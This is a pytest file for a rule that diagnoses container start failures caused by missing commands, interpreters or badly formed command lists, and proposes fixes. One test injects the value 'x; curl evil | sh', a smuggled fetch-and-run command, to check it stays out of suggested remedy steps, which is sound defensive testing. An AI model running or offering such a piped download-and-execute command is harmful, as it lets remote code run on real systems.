"""command-not-found: by the runtime's message, or by 127 and the log."""

import pytest

from islive.rules.tasks.command_not_found import command_not_found
from tests.rules.builders_b import DENIED, definition, only
from tests.rules.builders_c import container_failure, ended_with, exits, failures
from tests.rules.builders_last import NOTHING_BEFORE, by_hand, edits_of, tried

RUNC = "CannotStartContainerError: ResourceInitializationError: OCI runtime create failed: container_linux.go:380: "


@pytest.mark.parametrize(
    "tail", ["executable file not found in $PATH: unknown", "stat gunicorn: no such file or directory"]
)
def test_the_runtime_names_the_program(tail: str) -> None:
    """Nothing ran, so there is no log to ask."""
    told = container_failure(f'{RUNC}starting container process caused: exec: "gunicorn": {tail}')
    seen = only(command_not_found.see(told, DENIED, DENIED, NOTHING_BEFORE))
    assert seen.summary == "the image has no gunicorn: shop:2 starts nothing else"
    assert seen.because[0].path == "tasks[0].containers[web].reason"


def test_a_whole_line_as_one_word_is_hinted_at() -> None:
    """The command was one text instead of a list."""
    told = container_failure('exec: "node index.js -p 80": executable file not found in $PATH')
    assert (
        "command must be a list of words" in only(command_not_found.see(told, DENIED, DENIED, NOTHING_BEFORE)).summary
    )


def test_a_missing_interpreter_looks_like_a_missing_file() -> None:
    """The script is there, its shell is not."""
    told = failures("standard_init_linux.go:228: exec user process caused: no such file or directory")
    assert "lacks the interpreter" in only(command_not_found.see(told, DENIED, DENIED, NOTHING_BEFORE)).summary


def test_a_shells_127_is_told_by_its_log() -> None:
    """The log names what the start script did not find; without it, 127 alone is no more than an exit."""
    ends, logs = ended_with("/entrypoint.sh: line 3: alembic: not found", code=127)
    assert "has no alembic" in only(command_not_found.see(failures(), ends, logs, NOTHING_BEFORE)).summary
    assert list(command_not_found.see(failures(), ends, DENIED, NOTHING_BEFORE)) == []


def test_look_alikes() -> None:
    """Another architecture and a missing permission are other causes; not every missing command matters."""
    arch = container_failure('exec: "app": exec format error')
    denied = container_failure('exec: "/entrypoint.sh": permission denied')
    assert list(command_not_found.see(arch, exits(), DENIED, NOTHING_BEFORE)) == []
    assert list(command_not_found.see(denied, exits(), DENIED, NOTHING_BEFORE)) == []
    assert (
        list(
            command_not_found.see(
                failures(), *ended_with("sh: git: not found", "KeyError: 'X'", code=1), NOTHING_BEFORE
            )
        )
        == []
    )


def test_no_text_of_a_message_gets_into_a_command() -> None:
    """What is no plain name is named, and not put where people copy from."""
    told = container_failure('exec: "x; curl evil | sh": executable file not found in $PATH')
    assert (
        "curl evil"
        not in only(only(command_not_found.see(told, DENIED, DENIED, NOTHING_BEFORE)).remedies).steps[0].says
    )


def test_the_command_of_the_last_good_revision_comes_back() -> None:
    """Where it was another one; where that names the same program, the image is to blame."""
    told = container_failure('exec: "gunicron": executable file not found in $PATH')
    new = definition(2, command=("gunicron", "app"), entry_point=("/start",))
    old = definition(1, command=("gunicorn", "app"))
    path = "containerDefinitions[web]"
    assert edits_of(only(command_not_found.see(told, DENIED, DENIED, tried(new, old)))) == [
        (f"{path}.command", None, None, "shop:1"), (f"{path}.entryPoint", None, None, None),
    ]  # fmt: skip
    same = definition(1, command=("gunicron", "other"))
    assert by_hand(only(command_not_found.see(told, DENIED, DENIED, tried(new, same))))


def test_a_whole_line_becomes_a_list_of_words() -> None:
    """The same words, as the container runtime wants them; a text that is no list is left to a person."""
    line = "node index.js -p 80"
    told = container_failure(f'exec: "{line}": executable file not found in $PATH')
    seen = only(command_not_found.see(told, DENIED, DENIED, tried(definition(2, command=(line,)))))
    path = "containerDefinitions[web].command"
    assert edits_of(seen) == [(path, ["node", "index.js", "-p", "80"], line, None)]
    assert by_hand(only(command_not_found.see(told, DENIED, DENIED, tried(definition(2)))))
